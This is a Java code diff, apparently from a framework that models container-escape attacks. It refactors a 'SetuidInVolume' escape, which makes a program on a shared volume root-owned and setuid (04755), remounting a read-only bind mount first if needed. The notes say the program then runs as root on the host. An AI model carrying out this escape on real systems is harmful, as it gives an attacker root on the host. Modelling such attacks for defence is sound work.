@@ -54,17 +54,32 @@ record SetuidInVolume() implements Escape {
 
     @Override
     public List<Attack> ways(Scene scene) {
-        return List.of(SetuidInVolume::make, attacker -> {
-            attacker.mount(null, "/vol", null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
-            make(attacker);
+        String volume = scene.at(scene.stake().disk().volume());
+        return List.of(attacker -> make(attacker, volume), attacker -> {
+            attacker.note("it was only mounted read-only")
+                    .mount(null, volume, null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
+            make(attacker, volume);
         });
     }
 
-    private static void make(Attacker attacker) {
+    private static void make(Attacker attacker, String volume) {
+        String program = volume + "/cp";
         attacker.note("a program on the volume becomes root's")
-                .call("fchownat", List.of("AT_FDCWD", "\"/vol/cp\"", "0", "0", "0"), Attacker.CWD, "/vol/cp", 0, 0, 0);
+                .call(
+                        "fchownat",
+                        List.of("AT_FDCWD", Attacker.quoted(program), "0", "0", "0"),
+                        Attacker.CWD,
+                        program,
+                        0,
+                        0,
+                        0);
         attacker.note("and runs as root from now on, whoever starts it, on the host as well")
-                .call("fchmodat", List.of("AT_FDCWD", "\"/vol/cp\"", "04755"), Attacker.CWD, "/vol/cp", 04755);
+                .call(
+                        "fchmodat",
+                        List.of("AT_FDCWD", Attacker.quoted(program), "04755"),
+                        Attacker.CWD,
+                        program,
+                        04755);
     }
 
     /** On the host, as that ordinary user. */
